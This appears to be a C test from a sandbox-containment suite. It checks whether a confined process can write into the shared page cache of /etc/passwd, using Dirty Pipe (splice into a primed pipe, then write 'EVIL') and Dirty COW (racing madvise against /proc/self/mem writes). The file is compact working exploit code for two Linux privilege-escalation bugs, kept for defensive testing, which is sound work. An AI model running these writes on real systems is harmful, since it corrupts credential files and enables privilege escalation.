//: tries = "writes into cached pages of the image, which all boxes share: by a dirty pipe, by memory that is its own copy"
//: expect = ["ACCEPTED"]
//: tests = 3
//: uses = "probe.h"
#include <pthread.h>

static const char file_name[] = "/etc/passwd";
static char *map;

/* A pipe whose buffers still have the flag that lets a write go on in the page that was spliced into them. */
static void dirty_pipe(int file)
{
    int ends[2];
    static char full[4096];
    loff_t at = 1;
    if (pipe2(ends, O_NONBLOCK) != 0)
        exit(3);
    while (write(ends[1], full, sizeof full) > 0)
        ;
    while (read(ends[0], full, sizeof full) > 0)
        ;
    if (splice(file, &at, ends[1], NULL, 1, 0) == 1 && write(ends[1], "EVIL", 4) != 4)
        exit(4);
}

static void *give_up_copies(void *nothing)
{
    for (int i = 0; i < 20000; i++)
        madvise(map, 4096, MADV_DONTNEED);
    return nothing;
}

/* Writes that break a private mapping's copy-on-write when the copy goes in between. */
static void dirty_copy(void)
{
    pthread_t thread;
    int memory = open("/proc/self/mem", O_RDWR);
    pthread_create(&thread, NULL, give_up_copies, NULL);
    for (int i = 0; i < 20000 && memory >= 0; i++)
        if (pwrite(memory, "EVIL", 4, (off_t)(uintptr_t)map) < 0)
            break;
    pthread_join(thread, NULL);
}

int main(void)
{
    char text[8] = "";
    int file = open(file_name, O_RDONLY);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED)
        got("a shared mapping that it may write");
    if (mprotect(mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0), 4096, PROT_WRITE) == 0)
        got("a shared mapping made writable");
    dirty_pipe(file);
    dirty_copy();
    if (pread(file, text, 7, 0) != 7 || strncmp(text, "root:", 5) != 0)
        got("the file is now %s", text);
    return contained();
}
